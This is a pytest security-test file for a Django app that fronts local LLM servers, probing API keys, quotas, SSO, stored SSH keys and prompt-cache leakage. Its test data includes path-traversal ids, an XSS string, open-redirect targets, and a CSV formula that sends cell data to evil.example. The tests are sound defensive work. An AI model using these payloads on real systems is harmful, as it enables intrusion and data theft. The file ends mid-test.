"""Hostile and careless use of the newest surfaces: the OpenAI-compatible API and its keys
(docs/api.md), usage and quotas (docs/usage.md), single sign-on (docs/access.md), SSH keys
and images kept in the database (docs/ssh.md, docs/security.md).

Each test is one probe an attacker or a careless member would try. They run against the
real views, middleware, admin and database. None starts a llama-server (every probe is
refused, or lists, before a server would start — which is itself checked: no hidden API
session is made by a refused request), except the probes of what one shared server's
replies tell of another member's requests, which need the real one.
"""

from __future__ import annotations

import json
import logging

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from django.contrib.auth.models import Group
from django.test import Client
from django.utils.http import url_has_allowed_host_and_scheme

from accounts_app import sso
from accounts_app.models import Identity
from api_app import keys, serving
from api_app.models import ApiKey
from machines_app import keystore
from machines_app.models import Machine, ModelFile
from sessions_app.models import AgentSession
from usage_app.models import Quota, UsageRecord
from usage_app.recording import record_usage

pytestmark = [pytest.mark.django_db]

MESSAGES = [{"role": "user", "content": "Hello"}]


@pytest.fixture
def open_machine(db, tmp_path):
    """A machine anyone may use, with one model file row (no server is started from it)."""
    machine = Machine.objects.create(name="north", models_dir=str(tmp_path / "north"))
    ModelFile.objects.create(machine=machine, key="sub/Small-Q4.gguf", display_name="Small")
    return machine


@pytest.fixture
def locked_machine(db, tmp_path):
    """A machine limited to the group ``shepherds``."""
    machine = Machine.objects.create(name="locked", models_dir=str(tmp_path / "locked"))
    ModelFile.objects.create(machine=machine, key="Secret.gguf", display_name="Secret")
    machine.allowed_groups.add(Group.objects.create(name="shepherds"))
    return machine


def logged_in(user, **kwargs) -> Client:
    client = Client(**kwargs)
    client.force_login(user)
    return client


def bearer(token: str) -> dict:
    return {"HTTP_AUTHORIZATION": f"Bearer {token}"}


def complete(token: str, body, **extra):
    raw = body if isinstance(body, bytes | str) else json.dumps(body)
    return Client().post("/v1/chat/completions", raw, content_type="application/json", **bearer(token), **extra)


def no_api_session_made() -> bool:
    return not AgentSession.objects.filter(purpose=AgentSession.Purpose.API).exists()


# --- API keys --------------------------------------------------------------------------------


def test_a_key_in_the_query_string_or_the_body_opens_nothing(alice, open_machine):
    token = keys.create_key(alice, "script")[1]
    for url in (f"/v1/models?api_key={token}", f"/v1/models?key={token}", f"/v1/models?access_token={token}"):
        answer = Client().get(url)
        assert answer.status_code == 401 and answer.json()["error"]["code"] == "missing_api_key", url
    body = {"model": "north/sub/Small-Q4", "messages": MESSAGES, "api_key": token}
    answer = Client().post("/v1/chat/completions", json.dumps(body), content_type="application/json")
    assert answer.status_code == 401 and no_api_session_made()
    # Other schemes are not a bearer token.
    for header in (f"Basic {token}", f"Token {token}", token, f"Bearer  {token} extra"):
        answer = Client().get("/v1/models", HTTP_AUTHORIZATION=header)
        assert answer.status_code == 401, header


def test_a_revoked_key_or_a_turned_off_account_is_refused_at_once(alice, open_machine):
    token = keys.create_key(alice, "laptop")[1]
    assert Client().get("/v1/models", **bearer(token)).status_code == 200
    key = ApiKey.objects.get(user=alice)
    assert keys.revoke_key(alice, key.pk)
    refused = Client().get("/v1/models", **bearer(token))
    assert refused.status_code == 401 and "was revoked on" in refused.json()["error"]["message"]
    assert not keys.revoke_key(alice, key.pk), "a revoked key is not revoked twice"

    other = keys.create_key(alice, "desktop")[1]
    alice.is_active = False
    alice.save()
    refused = complete(other, {"model": "north/sub/Small-Q4", "messages": MESSAGES})
    assert refused.status_code == 401 and "turned off" in refused.json()["error"]["message"]
    assert no_api_session_made()


def test_a_key_acts_as_its_owner_only(alice, bob, open_machine, locked_machine):
    """bob's key does not reach the machine alice's group opens; a key is not a member's id."""
    alice.groups.add(Group.objects.get(name="shepherds"))
    alice_token = keys.create_key(alice, "a")[1]
    bob_token = keys.create_key(bob, "b")[1]
    listed = {m["id"] for m in Client().get("/v1/models", **bearer(alice_token)).json()["data"]}
    assert listed == {"north/sub/Small-Q4", "locked/Secret"}
    listed = {m["id"] for m in Client().get("/v1/models", **bearer(bob_token)).json()["data"]}
    assert listed == {"north/sub/Small-Q4"}

    detail = Client().get("/v1/models/locked/Secret", **bearer(bob_token))
    assert detail.status_code == 403 and detail.json()["error"]["code"] == "machine_not_allowed"
    refused = complete(bob_token, {"model": "locked/Secret", "messages": MESSAGES})
    assert refused.status_code == 403 and refused.json()["error"]["code"] == "machine_not_allowed"
    # The machine turned off: refused for its group's members too.
    Machine.objects.filter(pk=locked_machine.pk).update(enabled=False)
    refused = complete(alice_token, {"model": "locked/Secret", "messages": MESSAGES})
    assert refused.status_code == 403
    assert not {m["id"] for m in Client().get("/v1/models", **bearer(alice_token)).json()["data"]} & {"locked/Secret"}
    assert no_api_session_made()

    # bob cannot revoke alice's key by its id, nor see it on his page.
    page = logged_in(bob)
    alice_key = ApiKey.objects.get(user=alice)
    page.post(f"/settings/api-keys/{alice_key.pk}/revoke/")
    assert ApiKey.objects.get(pk=alice_key.pk).revoked_at is None
    assert alice_key.prefix not in page.get("/settings/api-keys/").content.decode()
    assert page.post(f"/settings/api-keys/{'9' * 25}/revoke/").status_code == 302  # no such key: nothing, no error


def test_model_ids_with_path_tricks_find_no_file_and_start_nothing(alice, open_machine, locked_machine):
    token = keys.create_key(alice, "a")[1]
    tricks = [
        "north/../locked/Secret", "north/sub/../sub/Small-Q4", "north//sub/Small-Q4", "/etc/passwd",
        "north/sub/Small-Q4.gguf", "north/sub/Small-Q4\x00", "north/sub/Small-Q4\x00.gguf", "north/\x00",
        "north/sub/Small-Q4/", "north/SUB/small-q4", "north/sub/Smаll-Q4",  # a Cyrillic а
        "north/sub/Small-Q4\u202e", "north/%2e%2e/locked/Secret", "north/sub", "north/", "north", " north/sub/Small-Q4",
        "locked/../north/sub/Small-Q4",
    ]
    for wanted in tricks:
        answer = complete(token, {"model": wanted, "messages": MESSAGES})
        assert answer.status_code in (403, 404), (wanted, answer.status_code, answer.content)
        assert answer.json()["error"]["code"] in ("model_not_found", "machine_not_allowed"), wanted
    for wanted in ("north/../locked/Secret", "north/sub/Small-Q4%00", "%2e%2e/%2e%2e/etc/passwd", "north/sub/Small-Q4.gguf"):
        answer = Client().get(f"/v1/models/{wanted}", **bearer(token))
        assert answer.status_code in (403, 404), (wanted, answer.status_code)
    for wanted in (None, 7, ["north/sub/Small-Q4"], {"id": "north/sub/Small-Q4"}, "", "   "):
        answer = complete(token, {"model": wanted, "messages": MESSAGES})
        assert answer.status_code == 400 and answer.json()["error"]["code"] == "missing_model", wanted
    assert no_api_session_made()


def test_malformed_bodies_are_refused_in_words_never_a_server_error(alice, open_machine):
    token = keys.create_key(alice, "a")[1]
    model = "north/sub/Small-Q4"
    cases = {
        b"": "invalid_json", b"{": "invalid_json", b"\xff\xfe{}": "invalid_json", b"null": "invalid_request",
        b"[]": "invalid_request", b'"hi"': "invalid_request", b"NaN": "invalid_request",
        # Nesting deeper than Python's parser recurses: 400, not a RecursionError.
        b"[" * 200_000 + b"]" * 200_000: "invalid_json",
        b'{"model": "north/sub/Small-Q4", "messages": ' + b"[" * 200_000 + b"]" * 200_000 + b"}": "invalid_json",
        json.dumps({"model": model}).encode(): "invalid_request",
        json.dumps({"model": model, "messages": []}).encode(): "invalid_request",
        json.dumps({"model": model, "messages": "hi"}).encode(): "invalid_request",
        json.dumps({"model": model, "messages": MESSAGES, "stream": "true"}).encode(): "invalid_request",
        json.dumps({"model": model, "messages": MESSAGES, "stream": 1}).encode(): "invalid_request",
        json.dumps({"model": model, "messages": MESSAGES, "stream": None}).encode(): "invalid_request",
    }
    for raw, code in cases.items():
        answer = complete(token, raw)
        assert answer.status_code == 400, (raw[:60], answer.status_code)
        assert answer.json()["error"]["code"] == code, (raw[:60], answer.json())
    assert no_api_session_made()


def test_tools_cannot_be_smuggled_past_the_check(alice, open_machine):
    token = keys.create_key(alice, "a")[1]
    tool = [{"type": "function", "function": {"name": "ls", "parameters": {"type": "object", "properties": {}}}}]
    base = '{"model": "north/sub/Small-Q4", "messages": [{"role": "user", "content": "hi"}]'
    smuggled = [
        base + ', "tools": null, "tools": ' + json.dumps(tool) + "}",  # JSON keeps the last duplicate key
        base + ', "tool\\u0073": ' + json.dumps(tool) + "}",  # an escaped letter is the same key
        base + ', "functions": [{"name": "ls", "parameters": {}}]}',
        base + ', "tool_choice": "required"}',
        base + ', "tool_choice": {"type": "function", "function": {"name": "ls"}}}',
        base + ', "function_call": {"name": "ls"}}',
        base + ', "function_call": "auto"}',
    ]
    for raw in smuggled:
        answer = complete(token, raw)
        assert answer.status_code == 400 and answer.json()["error"]["code"] == "tools_not_supported", raw
    assert no_api_session_made()


def test_a_huge_body_is_413_before_anything_starts(alice, open_machine):
    token = keys.create_key(alice, "a")[1]
    body = {"model": "north/sub/Small-Q4", "messages": [{"role": "user", "content": "x" * 3_000_000}]}
    answer = complete(token, body)
    assert answer.status_code == 413 and answer.json()["error"]["code"] == "request_too_large"
    # Without a key the body is not even looked at.
    answer = Client().post("/v1/chat/completions", json.dumps(body), content_type="application/json")
    assert answer.status_code == 401
    assert no_api_session_made()


def test_the_keys_page_needs_its_csrf_token(alice):
    page = logged_in(alice, enforce_csrf_checks=True)
    assert page.post("/settings/api-keys/", {"name": "forged"}).status_code == 403
    assert not ApiKey.objects.exists()
    key = keys.create_key(alice, "real")[0]
    assert page.post(f"/settings/api-keys/{key.pk}/revoke/").status_code == 403
    assert ApiKey.objects.get(pk=key.pk).revoked_at is None
    assert page.get(f"/settings/api-keys/{key.pk}/revoke/").status_code == 405
    # Anonymous: sent to log in, nothing made.
    assert Client().post("/settings/api-keys/", {"name": "anon"}).status_code == 302
    assert ApiKey.objects.count() == 1


def test_a_key_name_with_control_characters_is_kept_clean(alice):
    page = logged_in(alice)
    for name in ("lap\x00top", "lap\x1btop", "\x00"):
        page.post("/settings/api-keys/", {"name": name})
    for key in ApiKey.objects.filter(user=alice):
        assert not any(ord(c) < 32 or ord(c) == 127 for c in key.name), repr(key.name)
    assert not ApiKey.objects.filter(name="").exists()


def test_the_key_is_shown_once_and_nowhere_else(alice, open_machine, django_user_model, caplog):
    caplog.set_level(logging.DEBUG)
    page = logged_in(alice)
    made = page.post("/settings/api-keys/", {"name": "laptop"}).content.decode()
    token = made.split('id="new-key-value"', 1)[1].split('value="', 1)[1].split('"', 1)[0]
    assert token.startswith(keys.KEY_PREFIX)
    assert Client().get("/v1/models", **bearer(token)).status_code == 200
    Client().get("/v1/models", **bearer(token + "x"))
    assert token not in page.get("/settings/api-keys/").content.decode()
    root = logged_in(django_user_model.objects.create_superuser("root", password="root-password-1"))
    key = ApiKey.objects.get(user=alice)
    for url in ("/admin/api_app/apikey/", f"/admin/api_app/apikey/{key.pk}/change/", "/admin/auth/user/",
                f"/admin/api_app/apikey/?q={key.prefix}"):
        answer = root.get(url)
        assert answer.status_code == 200 and token not in answer.content.decode(), url
    assert str(key).find(token) == -1 and repr(key).find(token) == -1
    assert token not in caplog.text
    # Staff may revoke it in the admin, and cannot set the key or its digest there.
    root.post(f"/admin/api_app/apikey/{key.pk}/change/", {"name": "laptop", "revoked_at_0": "2026-01-02",
                                                         "revoked_at_1": "03:04:00", "digest": "0" * 64})
    key.refresh_from_db()
    assert key.revoked and key.digest == keys.digest_of(token)


# --- the hidden API sessions ---------------------------------------------------------------------


def test_the_hidden_api_sessions_show_on_no_page(alice, charlie_staff, open_machine, django_user_model):
    hidden = serving.api_session(open_machine.model_files.get())
    assert hidden.purpose == AgentSession.Purpose.API
    root = django_user_model.objects.create_superuser("root", password="root-password-1")
    for user in (alice, charlie_staff, root):
        page = logged_in(user)
        for url in ("/", "/?q=API", f"/?q={hidden.pk}", "/?show=all", "/?q=Small", "/inbox/", "/inbox/entries/"):
            answer = page.get(url)
            assert answer.status_code == 200, url
            assert f"/sessions/{hidden.pk}/" not in answer.content.decode(), (user, url)
        for url in (f"/sessions/{hidden.pk}/", f"/sessions/{hidden.pk}/export.jsonl", f"/sessions/{hidden.pk}/export.md",
                    f"/sessions/{hidden.pk}/waiting/", f"/sessions/{hidden.pk}/earlier/"):
            assert page.get(url).status_code == 404, (user, url)
        for url in ("send", "stop", "restart", "delete", "clear", "regenerate", "sharing"):
            assert page.post(f"/sessions/{hidden.pk}/{url}/").status_code in (403, 404), (user, url)
    assert AgentSession.objects.filter(pk=hidden.pk, purpose="api").exists()
    # Its owner, the system account, cannot log in with any password.
    system = serving.system_user()
    assert not system.is_active and not system.has_usable_password()
    for password in ("", "!", system.password):
        client = Client()
        client.post("/login/", {"username": serving.SYSTEM_USERNAME, "password": password})
        assert "_auth_user_id" not in client.session


# --- usage and quotas ----------------------------------------------------------------------------


REPORT = {"usage": {"prompt_tokens": 12, "completion_tokens": 3, "total_tokens": 15}, "timings": None}


def test_a_member_cannot_read_anothers_figures_by_any_spelling(alice, bob, open_machine):
    record_usage(member=bob, machine=open_machine, model_file=open_machine.model_files.get(), source="api", **REPORT)
    page = logged_in(alice)
    for member in (bob.pk, f"0{bob.pk}", f" {bob.pk}", f"{bob.pk}%00", f"{alice.pk}&member={bob.pk}"):
        answer = page.get(f"/usage/?member={member}")
        assert answer.status_code in (403, 404), member
    answer = page.get("/usage/", {"member": [str(bob.pk), str(alice.pk)]})  # the last one counts: her own
    assert answer.status_code == 200 and answer.context["member"] == alice
    assert page.get("/usage/usage.csv").status_code == 403
    assert page.get(f"/usage/usage.csv?member={alice.pk}").status_code == 403


@pytest.mark.parametrize("param", ["days", "member", "machine"])
@pytest.mark.parametrize("value", ["²", "١", "１", "-1", "1e3", "99999999999999999999999", "\x00"])
def test_odd_numbers_in_the_usage_filters_are_refused_in_words_never_a_500(alice, charlie_staff, param, value):
    for user in (alice, charlie_staff):
        answer = logged_in(user).get("/usage/", {param: value})
        assert answer.status_code in (200, 403, 404), (user, param, value, answer.status_code)


@pytest.mark.parametrize("value", ["²", "١٢", "\u00b9\u00b2"])
def test_odd_digits_in_a_search_or_a_jump_are_no_server_error(alice, open_machine, value):
    page = logged_in(alice)
    assert page.get("/", {"q": value}).status_code == 200
    session = AgentSession.objects.create(owner=alice, machine=open_machine, model_key="sub/Small-Q4.gguf",
                                          working_dir="/tmp", title="mine", status=AgentSession.Status.STOPPED)
    assert page.get(f"/sessions/{session.pk}/", {"at": value}).status_code == 200


def test_csv_cells_that_a_spreadsheet_would_run_are_defused(charlie_staff, django_user_model, tmp_path):
    import csv
    import io

    evil = django_user_model.objects.create_user("+cmd", password="x-password-1")
    machine = Machine.objects.create(name="-m", models_dir=str(tmp_path))
    model = ModelFile.objects.create(machine=machine, key="=HYPERLINK(\"http://x\").gguf",
                                     display_name="=HYPERLINK(\"http://evil.example/?\"&A1)")
    for name in ("@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1"):
        ModelFile.objects.filter(pk=model.pk).update(display_name=name)
        model.refresh_from_db()
        record_usage(member=evil, machine=machine, model_file=model, source="api", **REPORT)
    answer = logged_in(charlie_staff).get("/usage/usage.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode())))[1:]
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_quota_values_out_of_range_are_refused_in_the_admin(alice, django_user_model):
    root = logged_in(django_user_model.objects.create_superuser("root", password="root-password-1"))
    for value in ("-5", "1e3", "99999999999999999999999999", "", "NaN", "1.5", "0x10"):
        answer = root.post("/admin/usage_app/quota/add/", {"user": alice.pk, "tokens_per_day": value})
        assert answer.status_code == 200, value  # the form again, with its error
    assert not Quota.objects.exists()


def test_a_spent_quota_refuses_the_api_before_any_server_starts(alice, open_machine):
    Quota.objects.create(user=alice, tokens_per_day=10)
    record_usage(member=alice, machine=open_machine, model_file=open_machine.model_files.get(), source="api", **REPORT)
    token = keys.create_key(alice, "a")[1]
    answer = complete(token, {"model": "north/sub/Small-Q4", "messages": MESSAGES})
    assert answer.status_code == 429 and answer.json()["error"]["code"] == "insufficient_quota"
    assert "You have used your 10 tokens for today" in answer.json()["error"]["message"]
    assert no_api_session_made()
    Quota.objects.filter(user=alice).update(tokens_per_day=0)
    answer = complete(token, {"model": "north/sub/Small-Q4", "messages": MESSAGES, "stream": True})
    assert answer.status_code == 429 and no_api_session_made()
    assert UsageRecord.objects.count() == 1


# --- single sign-on ------------------------------------------------------------------------------


@pytest.fixture
def sso_on(settings):
    settings.CORRAL_OIDC_ISSUER = "https://id.example.com"
    settings.CORRAL_OIDC_PROVIDER_NAME = "Example ID"
    settings.OIDC_RP_CLIENT_ID = "corral"
    settings.OIDC_RP_CLIENT_SECRET = "secret"
    for name, url in (("AUTHORIZATION_ENDPOINT", "authorize"), ("TOKEN_ENDPOINT", "token"),
                      ("USERINFO_ENDPOINT", "userinfo"), ("JWKS_URI", "jwks")):
        setattr(settings, f"CORRAL_OIDC_{name}", f"https://id.example.com/{url}")
    return settings


def test_a_provider_account_never_takes_over_a_local_one(alice, django_user_model, sso_on):
    alice.email = "alice@example.com"
    alice.save()
    root = django_user_model.objects.create_superuser("admin", email="admin@example.com", password="root-password-1")
    backend = sso.Backend()
    for claims in ({"sub": "1", "preferred_username": "alice", "email": "alice@example.com"},
                   {"sub": "2", "preferred_username": "ALICE"},
                   {"sub": "3", "preferred_username": "admin", "email": "admin@example.com"},
                   {"sub": "4", "email": "alice@example.com"},
                   {"sub": "5", "preferred_username": "al ice"},
                   {"sub": "6", "preferred_username": "a" * 400}):
        user = backend.create_user(claims)
        assert user.pk not in (alice.pk, root.pk), claims
        assert not user.is_staff and not user.is_superuser and not user.has_usable_password()
        assert Identity.objects.get(subject=claims["sub"]).user == user
        assert len(user.username) <= 150
    alice.refresh_from_db()
    root.refresh_from_db()
    assert alice.username == "alice" and root.username == "admin" and root.is_superuser


def test_odd_group_names_in_the_claim_grant_nothing_odd(alice, sso_on):
    names = ["good", "  good  ", "/team/gpu", "bad\x00name", "tab\tname", "x" * 151, "", 7, None, {"a": 1},
             "new\nline"]
    sso.sync_account(alice, {"sub": "1", "groups": names})
    kept = set(alice.groups.values_list("name", flat=True))
    assert "good" in kept and "/team/gpu" in kept
    for name in kept:
        assert name.isprintable(), repr(name)
    assert not [g.name for g in Group.objects.all() if "\x00" in g.name or "\n" in g.name]
    # A string instead of a list is one group; a dict or a number is none.
    sso.sync_account(alice, {"sub": "1", "groups": {"admins": True}})
    assert not alice.groups.exists()


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/", "/\\evil.example/", "\\\\evil.example",
                                    "https:evil.example", "javascript:alert(1)", "http://testserver@evil.example/",
                                    " https://evil.example/", "/%09/evil.example"])
def test_the_next_after_sign_in_never_leaves_corral(client, sso_on, target):
    answer = client.get("/oidc/authenticate/", {"next": target})
    assert answer.status_code == 302 and answer["Location"].startswith("https://id.example.com/authorize")
    kept = client.session.get("oidc_login_next")
    assert kept is None or (kept.startswith("/") and not kept.startswith(("//", "/\\"))), kept
    # The password login page does not carry it into its form either.
    login = client.get("/login/", {"next": target}).content.decode()
    if f'value="{target}"' in login:
        assert url_has_allowed_host_and_scheme(target, allowed_hosts={"testserver"}), target


def test_password_login_off_holds_on_the_admins_login_too(sso_on, django_user_model):
    sso_on.CORRAL_PASSWORD_LOGIN = False
    staff = django_user_model.objects.create_user("staffer", password="staff-password-1", is_staff=True)
    for url in ("/admin/login/", "/login/"):
        client = Client()
        client.post(url, {"username": "staffer", "password": "staff-password-1", "next": "/admin/"})
        assert "_auth_user_id" not in client.session, url
    django_user_model.objects.create_superuser("root", password="root-password-1")
    client = Client()
    client.post("/admin/login/", {"username": "root", "password": "root-password-1", "next": "/admin/"})
    assert "_auth_user_id" in client.session
    assert staff.pk


# --- SSH keys and images in the database ---------------------------------------------------------


PEM = Ed25519PrivateKey.generate().private_bytes(
    serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()).decode()


def test_a_stored_ssh_key_is_shown_nowhere(django_user_model, charlie_staff, tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    sealed = keystore.seal_key(PEM)
    machine = Machine.objects.create(name="gpu9", transport="ssh", host="127.0.0.1", user="corral",
                                     models_dir=str(tmp_path), private_key_sealed=sealed)
    body_line = PEM.splitlines()[2]
    root = logged_in(django_user_model.objects.create_superuser("root", password="root-password-1"))
    for url in (f"/admin/machines_app/machine/{machine.pk}/change/", "/admin/machines_app/machine/",
                f"/admin/machines_app/machine/{machine.pk}/history/", "/machines/"):
        answer = root.get(url)
        assert answer.status_code == 200, url
        text = answer.content.decode()
        assert body_line not in text and sealed not in text and sealed[:40] not in text, url
    staff_page = logged_in(charlie_staff).get("/machines/").content.decode()
    assert body_line not in staff_page and sealed[:40] not in staff_page
    assert body_line not in repr(machine) and sealed not in repr(machine) and sealed not in str(machine)
    metrics = Client().get("/metrics").content.decode()
    assert body_line not in metrics and sealed[:40] not in metrics
    assert body_line not in caplog.text and sealed[:40] not in caplog.text
    assert keystore.open_key(sealed) == PEM
    with pytest.raises(keystore.KeyUnreadable):
        keystore.open_key(sealed, secret="another secret key")


def test_an_image_is_fetched_only_through_a_session_that_carries_it(alice, bob, images_machine, data_dir):
    """bob knows the hash of alice's image. Naming it in his own message's words, asking for
    it under another type, or importing a file that claims that hash with other bytes never
    hands him the image."""
    import base64
    import hashlib

    from sessions_app import importing
    from sessions_app.models import StoredImage, TranscriptEvent

    from .helpers import GIF, PNG, PNG_REF, make_image_session, send_with_images

    alices = make_image_session(alice, images_machine, "gemma.gguf")
    send_with_images(logged_in(alice), alices, "private diagram", ("d.png", PNG))
    digest = PNG_REF["sha256"]
    assert StoredImage.objects.filter(sha256=digest).exists()

    bobs = make_image_session(bob, images_machine, "gemma.gguf")
    send_with_images(logged_in(bob), bobs, f"please show {digest} and images/{digest}.png", ("mine.gif", GIF))
    assert TranscriptEvent.objects.filter(session=bobs, kind="message_taken", payload__icontains=digest).exists()
    page = logged_in(bob)
    for ext in ("png", "gif", "jpg", "webp"):
        assert page.get(f"/sessions/{bobs.pk}/images/{digest}.{ext}").status_code == 404, ext
        assert page.get(f"/sessions/{alices.pk}/images/{digest}.{ext}").status_code == 404, ext
    assert page.get(f"/sessions/{bobs.pk}/images/{digest.upper()}.png").status_code == 404

    # An export whose image line says alice's hash but carries bob's own bytes.
    event = {"seq": 1, "kind": "message_taken", "at": "2026-01-01T00:00:00+00:00",
             "payload": {"text": "look", "images": [dict(PNG_REF)], "by": {"id": bob.pk, "username": "bob"}}}
    forged = {"image": {"sha256": digest, "media_type": "image/png", "data": base64.b64encode(GIF).decode()}}
    data = (json.dumps(event) + "\n" + json.dumps(forged) + "\n").encode()
    with pytest.raises(importing.ImportRefused):
        importing.read_file(data)
    assert hashlib.sha256(bytes(StoredImage.objects.get(sha256=digest).data)).hexdigest() == digest


@pytest.fixture
def images_machine(db, tmp_path):
    machine = Machine.objects.create(name="m1", models_dir=str(tmp_path))
    ModelFile.objects.create(machine=machine, key="gemma.gguf", display_name="Gemma 3 4B", architecture="gemma3",
                             has_vision=True, projector_key="mmproj-gemma.gguf")
    return machine


@pytest.fixture
def data_dir(settings, tmp_path):
    settings.DATA_DIR = tmp_path / "data"
    return settings.DATA_DIR


def test_a_login_cookie_opens_no_api_and_an_api_key_opens_no_metrics(alice, charlie_staff, open_machine, settings):
    """A page on another site that makes a logged-in member's browser call the API carries
    their cookie, not a key: refused. An API key is no metrics token, nor is an empty one."""
    page = logged_in(charlie_staff)
    answer = page.post("/v1/chat/completions", json.dumps({"model": "north/sub/Small-Q4", "messages": MESSAGES}),
                       content_type="application/json")
    assert answer.status_code == 401 and no_api_session_made()
    assert page.get("/v1/models").status_code == 401
    token = keys.create_key(charlie_staff, "staff script")[1]
    settings.CORRAL_METRICS_TOKEN = ""
    for header in (f"Bearer {token}", "Bearer ", "Bearer", ""):
        answer = Client().get("/metrics", HTTP_AUTHORIZATION=header)
        assert answer.status_code == 401 and b"corral_" not in answer.content, header


def test_names_from_members_and_gguf_files_are_text_on_the_keys_and_usage_pages(alice, charlie_staff, tmp_path):
    evil = "<img src=x onerror=alert(1)>"
    page = logged_in(alice)
    assert evil not in page.post("/settings/api-keys/", {"name": evil}).content.decode()
    assert evil not in page.get("/settings/api-keys/").content.decode()
    machine = Machine.objects.create(name="south", models_dir=str(tmp_path))
    model = ModelFile.objects.create(machine=machine, key=f"{evil}.gguf", display_name=f"</title>{evil}")
    record_usage(member=alice, machine=machine, model_file=model, source="session", **REPORT)
    for user in (alice, charlie_staff):
        text = logged_in(user).get("/usage/").content.decode()
        assert evil not in text and "</title><img" not in text, user


def test_a_pasted_ssh_key_is_not_echoed_by_a_form_that_comes_back(django_user_model):
    root = logged_in(django_user_model.objects.create_superuser("root", password="root-password-1"))
    body_line = PEM.splitlines()[2]
    form = {"name": "gpu7", "transport": "ssh", "host": "127.0.0.1", "port": "not a port", "user": "corral",
            "private_key": PEM, "models_dir": "~/models", "llama_server_path": "llama-server",
            "idle_stop_seconds": "600", "enabled": "on"}
    answer = root.post("/admin/machines_app/machine/add/", form)
    text = answer.content.decode()
    assert answer.status_code == 200 and body_line not in text and "is not shown again" in text
    garbage = "-----BEGIN OPENSSH PRIVATE KEY-----\nSECRETSECRETSECRETSECRET\n-----END OPENSSH PRIVATE KEY-----\n"
    answer = root.post("/admin/machines_app/machine/add/", {**form, "port": "22", "private_key": garbage})
    assert answer.status_code == 200 and "SECRETSECRET" not in answer.content.decode()
    assert not Machine.objects.filter(name="gpu7").exists()


def test_control_characters_in_the_name_claims_are_dropped(alice, sso_on):
    sso.sync_account(alice, {"sub": "1", "email": "al\x00ice@example.com", "given_name": "Al\x00ice\x1b[31m",
                             "family_name": "B\nob", "groups": []})
    alice.refresh_from_db()
    assert (alice.email, alice.first_name, alice.last_name) == ("alice@example.com", "Alice[31m", "Bob")
    user = sso.Backend().create_user({"sub": "9", "preferred_username": "eve\x00\n", "groups": []})
    assert user.username == "eve_"


# --- one shared API server: what one member's reply tells of another's prompt --------------------


def _cached(stack, token: str, model: str, text: str, **extra) -> int:
    """How many prompt tokens the shared server took from its cache for ``text``, as the
    reply itself tells the caller (usage, else llama-server's timings). ``extra``: more
    request fields (a client asking for the cache itself)."""
    import httpx

    answer = httpx.post(f"{stack.base_url}/v1/chat/completions", timeout=300, headers={"Authorization": f"Bearer {token}"},
                        json={"model": model, "messages": [{"role": "user", "content": text}], "max_tokens": 1,
                              "temperature": 0, **extra})
    assert answer.status_code == 200, answer.text
    body = answer.json()
    details = (body.get("usage") or {}).get("prompt_tokens_details") or {}
    return int(details.get("cached_tokens") or (body.get("timings") or {}).get("cache_n") or 0)


def _streamed_cache_n(stack, token: str, model: str, text: str) -> int:
    """``timings.cache_n`` of a streamed reply's frames (the last one that says it)."""
    import httpx

    cache_n = -1
    with httpx.stream("POST", f"{stack.base_url}/v1/chat/completions", timeout=300,
                      headers={"Authorization": f"Bearer {token}"},
                      json={"model": model, "messages": [{"role": "user", "content": text}], "max_tokens": 1,
                            "stream": True, "stream_options": {"include_usage": True}, "cache_prompt": True}) as answer:
        assert answer.status_code == 200
        for line in answer.iter_lines():
            if line.startswith("data: {"):
                frame = json.loads(line[6:])
                cache_n = int((frame.get("timings") or {}).get("cache_n", cache_n))
                cached = ((frame.get("usage") or {}).get("prompt_tokens_details") or {}).get("cached_tokens")
                assert not cached, frame
    return cache_n


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("stop_servers_after")
def test_a_members_reply_does_not_tell_how_much_of_another_members_prompt_they_guessed(stack, local_machine, alice,
                                                                                        bob):
    """Every member's API requests share one llama-server and its one slot. Were its prompt
    cache used, bob's reply would say (``cached_tokens``, ``timings.cache_n``, and its
    speed) how much of his guess matches alice's prompt: no request reuses the slot."""
    from .conftest import model_key

    model = serving.model_id(local_machine.name, model_key(local_machine, "llama"))
    secret = ("Internal memo for alice only. The acquisition target is Northwind Traders and the offer price is "
              "forty two dollars per share, to be announced on the third of March after the board meeting. ") * 2
    right = secret[: len(secret) * 3 // 4] + "What do you think?"
    wrong = ("Internal memo for alice only. The acquisition target is Contoso Limited and the offer price is "
             "seventeen") + secret[len(secret) * 3 // 4 - 200: len(secret) * 3 // 4] + "What do you think?"
    alice_token, bob_token = keys.create_key(alice, "a")[1], keys.create_key(bob, "b")[1]
    _cached(stack, alice_token, model, secret)
    hit = _cached(stack, bob_token, model, right)
    _cached(stack, alice_token, model, secret)
    miss = _cached(stack, bob_token, model, wrong)
    assert hit == miss == 0, f"bob's right guess reused {hit} cached tokens, his wrong one {miss}"
    # Asking for the cache does not bring it back, streamed or not.
    _cached(stack, alice_token, model, secret)
    assert _cached(stack, bob_token, model, right, cache_prompt=True, n_cache_reuse=1) == 0
    _cached(stack, alice_token, model, secret)
    assert _streamed_cache_n(stack, bob_token, model, right) == 0
    # Nor does it keep prompts in RAM to swap into the slot when a new one resembles them.
    from sessions_app.servers.models import ServerRecord

    with open(f"/proc/{ServerRecord.objects.get().pid}/cmdline") as cmdline:
        assert " --cache-ram 0 " in " ".join(cmdline.read().replace("\0", " ").split()) + " "


def test_a_queue_filled_before_the_quota_runs_out_does_not_outlast_it(alice, open_machine, data_dir):
    from sessions_app import turns
    from sessions_app.models import TranscriptEvent
    from sessions_app.transcript import TurnEnd

    session = AgentSession.objects.create(owner=alice, machine=open_machine, model_key="sub/Small-Q4.gguf",
                                          working_dir="/tmp", status="idle")
    Quota.objects.create(user=alice, tokens_per_day=15)
    page = logged_in(alice)
    page.post(f"/sessions/{session.pk}/send/", {"text": "first"})
    for n in range(5):
        page.post(f"/sessions/{session.pk}/send/", {"text": f"queued {n}"})
    assert TranscriptEvent.objects.filter(session=session, kind="message_queued").count() == 5
    # The first turn's reply spends the day's tokens.
    record_usage(member=alice, machine=open_machine, model_file=open_machine.model_files.get(), source="session",
                 **REPORT)
